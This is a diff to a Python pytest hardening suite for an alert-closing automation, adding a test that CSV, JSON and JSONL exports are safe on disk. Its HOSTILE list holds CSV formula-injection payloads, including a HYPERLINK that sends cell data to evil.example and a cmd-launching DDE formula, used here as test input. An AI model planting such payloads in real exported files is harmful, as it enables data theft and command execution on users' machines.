@@ -4,17 +4,21 @@
 """Hardening suite: bad input, secrets at -vvvv, check mode, faults, and 50 hosts at once.
 
 At the end of the session one line sums it up (summed over xdist workers):
-``hardening: cases=N faults_injected=N alerts_lost=N alerts_doubled=N secrets_found=N``.
+``hardening: cases=N faults_injected=N alerts_lost=N alerts_doubled=N secrets_found=N files_unsafe=N claims_doubled=N``
+(files_unsafe: formula cells left in CSV, group/world-readable hits, temp files left behind; claims_doubled: a close
+claimed as changed by two runs).
 """
 
 from __future__ import absolute_import, division, print_function
 
 import collections
+import csv
 import fcntl
 import json
 import os
 import re
 import ssl
+import stat
 import sys
 import tempfile
 import time
@@ -29,7 +33,8 @@ WRITE_METHODS = ('POST', 'PUT', 'DELETE')
 TOKEN_PATH = re.compile(r'/oauth/token$')
 MACKEREL_CLOSE = re.compile(r'^/api/v0/alerts/([^/]+)/close$')
 OPSRAMP_ACTION = re.compile(r'/alerts/([^/]+)/actions/(\w+)$')
-FIGURES = collections.Counter(cases=0, faults_injected=0, alerts_lost=0, alerts_doubled=0, secrets_found=0)
+FIGURES = collections.Counter(cases=0, faults_injected=0, alerts_lost=0, alerts_doubled=0, secrets_found=0,
+                              files_unsafe=0, claims_doubled=0)
 
 
 # ------------------------------------------------------------------------------------------------- summary line
@@ -59,7 +64,8 @@ def hardening_summary(request):
             with open(os.path.join(folder, part)) as handle:
                 total.update(json.load(handle))
     line = 'hardening: cases=%(cases)d faults_injected=%(faults_injected)d alerts_lost=%(alerts_lost)d ' \
-           'alerts_doubled=%(alerts_doubled)d secrets_found=%(secrets_found)d' % total
+           'alerts_doubled=%(alerts_doubled)d secrets_found=%(secrets_found)d files_unsafe=%(files_unsafe)d ' \
+           'claims_doubled=%(claims_doubled)d' % total
     capman = request.config.pluginmanager.getplugin('capturemanager')
     with capman.global_and_fixture_disabled():
         sys.stderr.write('\n' + line + '\n')
@@ -330,3 +336,81 @@ def test_fifty_hosts_each_close_their_own_alerts(sim, play, tmp_path):
         assert after[alert_id]['reason'] == 'CHG-LOAD: h%s' % host_id[-3:]
     assert all(after[i] == a for i, a in before.items() if i not in target)
     assert elapsed < 110
+
+
+# ------------------------------------------------------------------------------------------------- files on disk
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTAB', '\rCR']
+FORMULA = ('=', '+', '-', '@', '\t', '\r')
+
+
+def _mode(path):
+    return stat.S_IMODE(os.lstat(str(path)).st_mode)
+
+
+def test_files_on_disk_are_safe(sim, play, tmp_path):
+    at = int(time.time()) - 3 * 86400                     # older than every seeded alert: the window holds only these
+    for n, text in enumerate(HOSTILE):
+        sim.control('log360', 'raise', {'count': 1, 'at': at + n, 'message': text, 'device': text})
+    files_dir, empty_dir, shared_dir = tmp_path / 'files', tmp_path / 'empty', tmp_path / 'shared'
+    for folder in (files_dir, empty_dir, shared_dir):
+        folder.mkdir()
+    os.chmod(str(shared_dir), 0o1777)
+    for fmt in ('csv', 'json', 'jsonl'):
+        (files_dir / ('keep.' + fmt)).write_text('old\n')
+    fifo = tmp_path / 'fifo'
+    os.mkfifo(str(fifo))
+    os.symlink(str(fifo), str(tmp_path / 'link-to-fifo'))
+    # a character device of our own (the null device, 1:3): a regression must never get to replace /dev/null itself
+    device = tmp_path / 'null-device'
+    try:
+        os.mknod(str(device), 0o666 | stat.S_IFCHR, os.makedev(1, 3))
+    except (OSError, AttributeError):
+        device = None
+    bad_dests = [dict(name='fifo', path=str(fifo), expect='is a FIFO'),
+                 dict(name='directory', path=str(files_dir), expect='is a directory'),
+                 dict(name='link_to_fifo', path=str(tmp_path / 'link-to-fifo'), expect='symbolic link to a FIFO')]
+    if device is not None:
+        bad_dests.append(dict(name='device', path=str(device), expect='is a character device'))
+    big_job = sim.control('log360', 'jobs', {'hits': 2500, 'duration': 0})['request_id']
+    sim.configure(faults={'script': [{'platform': 'log360', 'method': 'GET', 'path': '^/api/v2/jobs/results$',
+                                      'query': 'request_id=%s&page=2' % big_job, 'fault': 'truncated', 'count': 3}]})
+    new_report_dir = tmp_path / 'fresh-reports'
+    result = play('hardening_files.yml', extra_vars=dict(
+        window_start=at - 1, window_end=at + len(HOSTILE), files_dir=str(files_dir), empty_dir=str(empty_dir),
+        bad_dests=bad_dests, big_job=big_job, hostile_count=len(HOSTILE), shared_dir=str(shared_dir),
+        new_report_dir=str(new_report_dir)))
+    FIGURES['cases'] += 7
+    assert_ok(result)
+    unsafe = []
+    # csv: every hostile cell (Device and Message) starts with ', none starts with a formula character
+    rows = list(csv.DictReader(open(str(files_dir / 'hits.csv'), newline='')))
+    cells = [value for row in rows for value in row.values() if value]
+    unsafe += [c for c in cells if c.startswith(FORMULA)]
+    assert sorted(r['Message'] for r in rows) == sorted("'" + t for t in HOSTILE)
+    assert sorted(r['Device'] for r in rows) == sorted("'" + t for t in HOSTILE)
+    # json and jsonl: values unchanged
+    assert sorted(h['Message'] for h in json.loads((files_dir / 'hits.json').read_text())) == sorted(HOSTILE)
+    jsonl = [json.loads(line) for line in (files_dir / 'hits.jsonl').read_text().splitlines()]
+    assert sorted(h['Message'] for h in jsonl) == sorted(HOSTILE)
+    # modes: 0600 by default, an explicit mode applies to an existing file
+    modes = dict((p.name, _mode(p)) for p in files_dir.iterdir())
+    assert modes == {'hits.csv': 0o640, 'hits.json': 0o600, 'hits.jsonl': 0o600,
+                     'keep.csv': modes['keep.csv'], 'keep.json': modes['keep.json'], 'keep.jsonl': modes['keep.jsonl']}
+    unsafe += [name for name, mode in modes.items() if name.startswith('hits.') and mode & 0o007]
+    # a failed run leaves the old file and no temp file; check mode wrote nothing at all
+    assert [(files_dir / ('keep.' + f)).read_text() for f in ('csv', 'json', 'jsonl')] == ['old\n'] * 3
+    assert list(empty_dir.iterdir()) == []
+    # refused destinations are untouched, and refused before any request
+    assert stat.S_ISFIFO(os.lstat(str(fifo)).st_mode) and os.path.islink(str(tmp_path / 'link-to-fifo'))
+    assert device is None or stat.S_ISCHR(os.lstat(str(device)).st_mode)
+    search_id = [j['request_id'] for j in sim.control('log360', 'jobs')['jobs'] if j['kind'] == 'alerts']
+    assert len(search_id) == 1
+    reads = [r for r in sim.requests(platform='log360', method='GET') if r['query'].get('request_id') == search_id]
+    assert len([r for r in reads if r['path'] == '/api/v2/jobs/results']) == 3 + 3 + 1     # written, checked, remoded
+    # the role: an existing directory keeps its mode, a new one is 0700, the files are 0600
+    assert _mode(shared_dir) == 0o1777
+    assert _mode(new_report_dir) == 0o700
+    report_modes = dict((p.name, _mode(p)) for d in (shared_dir, new_report_dir) for p in d.iterdir())
+    assert report_modes == {'shared.jsonl': 0o600, 'shared.html': 0o600, 'fresh.jsonl': 0o600, 'fresh.html': 0o600}
+    FIGURES['files_unsafe'] += len(unsafe)
+    assert unsafe == []
